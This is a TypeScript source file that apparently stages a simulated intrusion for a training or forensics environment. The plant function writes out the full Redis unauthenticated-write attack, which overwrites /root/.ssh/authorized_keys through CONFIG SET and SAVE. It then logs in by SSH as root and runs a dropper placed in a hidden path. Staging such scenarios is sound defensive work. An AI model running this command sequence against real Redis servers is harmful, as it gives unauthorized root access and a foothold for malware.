// Two steps: the key through Redis, then SSH. The first is the way in.
import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import { openRedis, redisCommands } from '../../redis.ts'
import type { Stage } from '../../stage.ts'

export function dress(dress: Dress): void {
  openRedis(dress, { bind: '0.0.0.0', user: 'root' })
  dress.key('own', 'redis@io')
  dress.write('/root/.ssh/known_hosts', '', { mode: 0o600 })
  dress.logins({
    days: 12,
    guesses: 40,
    friends: [{ user: 'root', address: '198.51.100.20', key: 'SHA256:7t5mZ1Jq0sV0yUu9oT2mJt8wB4n1xW6cYkQf3rXbYzA', hours: [9, 15] }],
  })
}

export async function plant(stage: Stage): Promise<void> {
  const from = '203.0.113.41'
  const line = dropper(stage, { path: '/usr/share/.misc/zzh' })
  stage.mark('occurrence')
  await redisCommands(stage, from, [
    ['FLUSHALL'],
    ['SET', 'crackit', `\n\n\n${stage.publicKey('own')}\n\n\n`],
    ['CONFIG', 'SET', 'dir', '/root/.ssh'],
    ['CONFIG', 'SET', 'dbfilename', 'authorized_keys'],
    ['SAVE'],
  ])
  await stage.ssh(from, 'root', { key: 'own' }, line)
}
